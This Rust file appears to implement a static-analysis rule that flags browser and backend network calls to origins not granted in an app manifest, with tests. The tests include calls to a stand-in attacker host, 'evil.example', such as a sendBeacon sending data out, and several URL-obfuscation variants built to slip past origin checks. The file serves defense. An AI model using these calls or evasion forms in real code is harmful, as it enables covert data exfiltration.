//! Calls to a literal origin that the manifest does not grant. In the frontend no origin can be granted: a page
//! reaches its own backend, and the backend reaches out.

use atoll_model::{Origin, Severity};
use oxc::{
    ast::{
        AstKind,
        ast::{Argument, CallExpression, Expression, NewExpression},
    },
    semantic::AstNode,
    span::GetSpan,
};

use crate::{
    project::Sides,
    scan::{
        Rule, Scan, Sink, context,
        values::{Origin as From, Text, is},
    },
};

pub(super) static RULE: Rule =
    Rule { id: "scan/fetch-origin", severity: Severity::Error, sides: Sides::ALL, visit };

const METHODS: [&str; 7] = ["GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS"];

fn visit<'a>(scan: &Scan<'a>, node: &'a AstNode<'a>, sink: &mut Sink<'_>) {
    let address = match node.kind() {
        AstKind::CallExpression(call) => called(scan, call),
        AstKind::NewExpression(new) => made(scan, new),
        _ => None,
    };
    let Some((function, address)) = address else { return };
    let Some(text) = address_text(scan, address, 8) else { return };
    let Some(absolute) = absolute(&text) else { return };
    if scan.file().sides.meets(Sides::FRONTEND) {
        let hint = "call the app's own backend, fetch(\"/api/…\"), and let the backend call out (with a grant for the origin)";
        return sink.flag(
            address.span(),
            format!("{function} leaves the page for {absolute}, which its policy blocks"),
            hint,
        );
    }
    let Ok(origin) = Origin::parse(&absolute) else { return };
    let Ok(url) = url::Url::parse(&absolute) else { return };
    if scan.manifest.grants.http.iter().any(|granted| granted.covers(&url)) {
        return;
    }
    let hint = if scan.manifest.grants.http.is_empty() {
        format!("add to atoll.toml under [grants]: http = [\"{origin}\"]")
    } else {
        format!("add \"{origin}\" to http under [grants] in atoll.toml")
    };
    sink.flag(
        address.span(),
        format!("{function} reaches {origin}, which the manifest does not grant"),
        hint,
    );
}

/// The function's name and its address argument, for a call that reaches out.
fn called<'a>(scan: &Scan<'a>, call: &'a CallExpression<'a>) -> Option<(&'static str, &'a Expression<'a>)> {
    if let Some(path) = scan.path(&call.callee) {
        if is(&path, &["fetch"]) {
            return Some(("fetch", context::argument(call, 0)?));
        }
        if is(&path, &["navigator", "sendBeacon"]) {
            return Some(("sendBeacon", context::argument(call, 0)?));
        }
    }
    let opens = scan.member(&call.callee).is_some_and(|m| m.property.as_deref() == Some("open"));
    let method = context::argument(call, 0).filter(|_| opens).and_then(|first| scan.whole_text(first))?;
    let is_method = METHODS.contains(&method.to_ascii_uppercase().as_str());
    context::argument(call, 1).filter(|_| is_method).map(|second| ("XMLHttpRequest", second))
}

fn made<'a>(scan: &Scan<'a>, new: &'a NewExpression<'a>) -> Option<(&'static str, &'a Expression<'a>)> {
    let path = scan.path(&new.callee)?;
    let name = ["WebSocket", "EventSource", "WebTransport"].into_iter().find(|name| is(&path, &[name]))?;
    Some((name, context::nth(&new.arguments, 0)?))
}

/// The text of an address, also through `new URL(…)` and `new Request(…)`, in place or in a constant.
fn address_text<'a>(scan: &Scan<'a>, address: &'a Expression<'a>, hops: u8) -> Option<Text> {
    let hops = hops.checked_sub(1)?;
    match address.get_inner_expression() {
        Expression::NewExpression(new) => {
            let path = scan.path(&new.callee)?;
            let first = |arguments: &'a [Argument<'a>], at| context::nth(arguments, at);
            if is(&path, &["Request"]) {
                return address_text(scan, first(&new.arguments, 0)?, hops);
            }
            if !is(&path, &["URL"]) {
                return None;
            }
            let text = address_text(scan, first(&new.arguments, 0)?, hops);
            match text {
                Some(text) if scheme_and_rest(&text.text).is_some() => Some(text),
                _ => address_text(scan, first(&new.arguments, 1)?, hops),
            }
        }
        Expression::Identifier(ident) => match scan.origin(scan.symbol(ident)?) {
            From::Value(value) => address_text(scan, value, hops),
            _ => None,
        },
        other => {
            // `url.href`, `url.toString()`.
            let object = match other {
                Expression::CallExpression(call) if call.arguments.is_empty() => {
                    scan.member(&call.callee).filter(|m| m.property.as_deref() == Some("toString"))
                }
                _ => scan.member(other).filter(|m| m.property.as_deref() == Some("href")),
            };
            match object {
                Some(member) => address_text(scan, member.object, hops),
                None => scan.text(other),
            }
        }
    }
}

/// Scheme and authority of an absolute web address, as `http(s)://…`; `None` for a relative one, for another
/// scheme, and when the host is not known to its end.
fn absolute(text: &Text) -> Option<String> {
    let (scheme, rest) = scheme_and_rest(&text.text)?;
    let end = rest.find(['/', '?', '#', '\\']);
    let authority = &rest[..end.unwrap_or(rest.len())];
    // `https://api.${domain}/x`, `http://localhost:${port}`: what follows belongs to the host. After a whole
    // domain, as in `https://api.example.com${path}`, it is taken for the path.
    let goes_on = end.is_none() && !text.complete;
    if goes_on && (authority.ends_with(['.', '-', ':', '@']) || !authority.contains('.')) {
        return None;
    }
    let authority: String = authority.rsplit('@').next().unwrap_or_default().chars().take(255).collect();
    (!authority.is_empty()).then(|| format!("{scheme}://{}", authority.trim_end_matches([':', '.'])))
}

/// The scheme, as `http` or `https`, and what stands after the slashes, as a URL parser reads them: it drops
/// spaces around an address and line breaks in it, takes `\` for `/`, and any number of them for two.
fn scheme_and_rest(text: &str) -> Option<(&'static str, String)> {
    let text: String = text.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
    let text = text.trim_start_matches(|c: char| c <= ' ');
    let slashes = ['/', '\\'];
    let lower = text.get(..6).unwrap_or(text).to_ascii_lowercase();
    let schemes = [("https:", "https"), ("http:", "http"), ("wss:", "https"), ("ws:", "http")];
    if let Some((prefix, scheme)) = schemes.into_iter().find(|(prefix, _)| lower.starts_with(prefix)) {
        return Some((scheme, text.get(prefix.len()..)?.trim_start_matches(slashes).to_owned()));
    }
    let rest = text.strip_prefix(slashes).filter(|rest| rest.starts_with(slashes))?;
    Some(("https", rest.trim_start_matches(slashes).to_owned()))
}

#[cfg(test)]
mod tests {
    use crate::scan::testing::{finds, in_backend, in_files, in_frontend, spares};

    const ID: &str = "scan/fetch-origin";

    #[test]
    fn finds_every_way_to_a_literal_origin() {
        let texts = [
            "fetch('https://evil.example/x')",
            "fetch(`https://evil.example/${id}`); declare const id: string;",
            "fetch('https://evil.example' + path); declare const path: string;",
            "const base = 'https://evil.example'; fetch(`${base}/x`);",
            "globalThis.fetch('//evil.example/x')",
            "fetch(new URL('/x', 'https://evil.example'))",
            "const url = new URL('https://evil.example'); fetch(url);",
            "const url = new URL('https://evil.example'); fetch(url.toString());",
            "const url = new URL('https://evil.example'); fetch(url.href);",
            "fetch(new Request('https://evil.example/x', { method: 'POST' }))",
            "new WebSocket('wss://evil.example/x')",
            "new EventSource('https://evil.example/x')",
            "const x: any = new XMLHttpRequest(); x.open('get', 'https://evil.example/x');",
            "navigator.sendBeacon('https://evil.example/x', 'data')",
            "const f = fetch; f('HTTPS://user:pass@evil.example/x')",
            "fetch('https:evil.example/x')",
            "fetch('\\\\\\\\evil.example\\\\x')",
            "fetch(' ht\\ntps://evil.example/x')",
        ];
        finds(ID, in_backend, &texts);
        finds(ID, in_frontend, &texts);
    }

    #[test]
    fn a_granted_origin_is_fine_and_another_one_is_named() {
        let manifest = "[grants]\nhttp = [\"https://api.example.com\", \"https://*.data.example\"]\n";
        let found = |text| in_files(ID, manifest, &[("backend/index.ts", text)]);
        assert!(found("fetch('https://api.example.com/v1?x=1')").is_empty());
        assert!(found("fetch(`https://a.data.example/${1}`)").is_empty());
        assert!(found("new WebSocket('wss://api.example.com/live')").is_empty());
        let other = found("fetch('https://api.example.com.evil.net/v1')");
        assert!(other[0].contains("add \"https://api.example.com.evil.net\" to http"), "{other:?}");
        let page = in_files(ID, manifest, &[("frontend/App.tsx", "fetch('https://api.example.com/v1')")]);
        assert!(page[0].contains("/api/"), "{page:?}");
    }

    #[test]
    fn the_missing_line_is_spelt_out() {
        let found = in_backend(
            ID,
            "export default { async fetch() { return fetch('https://api.example.com/a'); } };",
        );
        assert!(
            found[0].contains("http = [\"https://api.example.com\"]") && found[0].starts_with("1:47"),
            "{found:?}"
        );
    }

    #[test]
    fn spares_relative_addresses_other_fetches_and_plain_text() {
        let texts = [
            "fetch('/api/todos')",
            "fetch(`api/todos/${1}`)",
            "fetch('data:text/plain,hello')",
            "function f(fetch: (x: string) => void) { fetch('https://example.com'); }",
            "const app = { fetch(x: string) {} }; app.fetch('https://localhost/x');",
            "const link = 'https://example.com'; // fetch('https://example.com')",
            "const url = new URL('https://example.com/x'); url.pathname;",
            "new Request('https://example.com/');",
            "dialog.open('https://example.com'); declare const dialog: any;",
            "fetch(`https://${host}/x`); declare const host: string;",
            "fetch(`https://api.${domain}/x`); declare const domain: string;",
            "fetch(`https://api-${region}.example.com/x`); declare const region: string;",
            "fetch('http://localhost:' + port); declare const port: number;",
            "fetch(`https://${user}:${key}@${host}/`); declare const user: string, key: string, host: string;",
        ];
        spares(ID, in_backend, &texts);
        spares(
            ID,
            in_frontend,
            &["export default () => <a href='https://example.com' target='_blank'>x</a>;"],
        );
    }
}
